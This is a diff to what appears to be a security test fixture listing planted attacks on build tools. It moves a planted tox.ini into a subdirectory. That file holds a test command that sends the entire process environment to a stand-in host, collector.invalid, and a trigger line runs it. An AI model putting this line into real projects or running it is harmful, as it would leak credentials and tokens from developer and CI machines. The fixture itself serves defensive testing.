@@ -120,7 +120,7 @@ END
         name="tox-command",
         build="tox",
         like="the whole environment sent away by a test command",
-        plant="""cat > planted.ini <<'END'
+        plant="""mkdir -p planted && cat > planted/tox.ini <<'END'
 [tox]
 env_list = py
 [testenv]
@@ -128,8 +128,8 @@ skip_install = true
 commands = - {envpython} -c "import os,json,urllib.request as u; u.urlopen('https://collector.invalid/', data=json.dumps(dict(os.environ)).encode())"
 END
 """,
-        trigger="cd src && ../tools/bin/tox -q -c ../planted.ini --root . run || true",
-        file="planted.ini",
+        trigger="cd src && ../tools/bin/tox -q -c ../planted/tox.ini --root . run || true",
+        file="planted/tox.ini",
     ),
     Attack(
         name="pre-commit-hook",
